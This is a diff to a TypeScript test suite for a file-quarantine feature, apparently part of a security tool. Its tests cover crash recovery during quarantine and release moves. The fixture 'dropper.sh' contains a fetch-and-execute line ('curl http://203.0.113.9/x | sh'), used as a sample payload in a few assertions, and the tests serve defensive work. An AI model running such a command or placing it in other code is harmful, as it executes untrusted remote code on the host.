@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -87,18 +88,18 @@ function quarantineCases(dataParent: string) {
   });
 
   /** What a crash leaves: the intent row written before a move, and the file wherever the move got to. */
-  function interrupted(state: 'moving-in' | 'moving-out', fileAt: 'home' | 'quarantine', partialCopy = false): { id: string; stored: string } {
+  function interrupted(state: 'moving-in' | 'moving-out', fileAt: 'home' | 'quarantine' | 'both' | 'neither', { partialCopy = false, moverPid = null as number | null } = {}): { id: string; stored: string } {
     const id = 'Q-0000abcd';
     const stored = path.join(quarantineFolder(ctx), id, 'dropper.sh');
+    const sha = createHash('sha256').update(fs.readFileSync(suspect)).digest('hex');
     fs.mkdirSync(path.dirname(stored), { recursive: true });
-    if (fileAt === 'quarantine') {
-      fs.copyFileSync(suspect, stored);
-      fs.rmSync(suspect);
-    }
+    if (fileAt !== 'home') fs.copyFileSync(suspect, stored);
+    if (fileAt === 'quarantine' || fileAt === 'neither') fs.rmSync(suspect);
+    if (fileAt === 'neither') fs.rmSync(stored);
     if (partialCopy) fs.writeFileSync(path.join(path.dirname(stored), '.dropper.sh.tmp-1'), '#!/bin/sh\ncu');
     ctx.db
-      .prepare("INSERT INTO quarantine (id, incident_id, original_path, stored_path, sha256, size, mode, quarantined_at, quarantined_by, state) VALUES (?, NULL, ?, ?, ?, ?, ?, '2026-11-30T04:00:00.000Z', 'ana', ?)")
-      .run(id, suspect, stored, 'f'.repeat(64), 42, 0o100750, state);
+      .prepare("INSERT INTO quarantine (id, incident_id, original_path, stored_path, sha256, size, mode, quarantined_at, quarantined_by, state, mover_pid) VALUES (?, NULL, ?, ?, ?, ?, ?, '2026-11-30T04:00:00.000Z', 'ana', ?, ?)")
+      .run(id, suspect, stored, sha, 42, 0o100750, state, moverPid);
     return { id, stored };
   }
   const listAll = async () => ((await dispatchAsync(ctx, 'quarantine.list', { includeReleased: true })) as { value: { files: QuarantinedFile[] } }).value.files;
@@ -111,12 +112,54 @@ function quarantineCases(dataParent: string) {
   });
 
   it('marks a quarantine a crash interrupted before the file left home as not moved, and removes the partial copy', async () => {
-    const { id } = interrupted('moving-in', 'home', true);
+    const { id } = interrupted('moving-in', 'home', { partialCopy: true });
     expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'not-moved' })]);
     expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
     expect(leftInQuarantine(ctx)).toEqual([]);
     // Not in quarantine, so not releasable: the error says where the file is.
     expect(await dispatchAsync(ctx, 'quarantine.release', { id })).toMatchObject({ ok: false, error: { code: 'conflict', message: expect.stringContaining(`still at ${suspect}`) } });
+  });
+
+  it('keeps the quarantined copy when a new file appeared at home since (a re-dropped payload), and drops a copy of the same file', async () => {
+    const { id, stored } = interrupted('moving-in', 'both');
+    fs.writeFileSync(suspect, 'echo re-dropped\n');
+    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'held' })]);
+    expect(fs.existsSync(stored)).toBe(true);
+    expect(mode(stored)).toBe(0o000);
+
+    fs.rmSync(quarantineFolder(ctx), { recursive: true, force: true });
+    ctx.db.prepare('DELETE FROM quarantine').run();
+    fs.writeFileSync(suspect, '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n');
+    // A copy across file systems committed, the original not yet unlinked: the same bytes twice.
+    const copy = interrupted('moving-in', 'both');
+    expect(await listAll()).toEqual([expect.objectContaining({ id: copy.id, state: 'not-moved' })]);
+    expect(fs.existsSync(copy.stored)).toBe(false);
+    expect(fs.readFileSync(suspect, 'utf8')).toContain('203.0.113.9');
+  });
+
+  it('marks a move that left the file in neither place as missing, and leaves a move still running alone', async () => {
+    const { id } = interrupted('moving-in', 'neither');
+    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'missing' })]);
+    expect(await dispatchAsync(ctx, 'quarantine.release', { id })).toMatchObject({ ok: false, error: { message: expect.stringContaining('left the file neither at') } });
+
+    ctx.db.prepare('DELETE FROM quarantine').run();
+    fs.writeFileSync(suspect, '#!/bin/sh\n');
+    // Another live process (this test's parent) wrote the intent: its move is not interrupted.
+    const running = interrupted('moving-in', 'home', { moverPid: process.ppid });
+    expect(await listAll()).toEqual([expect.objectContaining({ id: running.id, state: 'moving-in' })]);
+  });
+
+  it('keeps a file whose release cannot be recorded in quarantine, says so, and repairs the record later', async () => {
+    const entry = ((await dispatchAsync(ctx, 'quarantine.add', { file: suspect })) as { value: QuarantinedFile }).value;
+    ctx.db.exec("CREATE TRIGGER refuse_release BEFORE UPDATE ON quarantine WHEN NEW.state IN ('released', 'held') BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END");
+    const released = await dispatchAsync(ctx, 'quarantine.release', { id: entry.id });
+    expect(released).toMatchObject({ ok: false, error: { message: expect.stringContaining('database or disk is full') } });
+    expect(JSON.stringify(released)).not.toContain('could not be recorded nor undone');
+    expect(fs.existsSync(suspect)).toBe(false);
+    expect(mode(entry.storedPath)).toBe(0o000);
+    ctx.db.exec('DROP TRIGGER refuse_release');
+    expect(await listAll()).toEqual([expect.objectContaining({ id: entry.id, state: 'held' })]);
+    expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: true, value: { state: 'released' } });
   });
 
   it('records a release a crash interrupted after the file went home, with its mode', async () => {
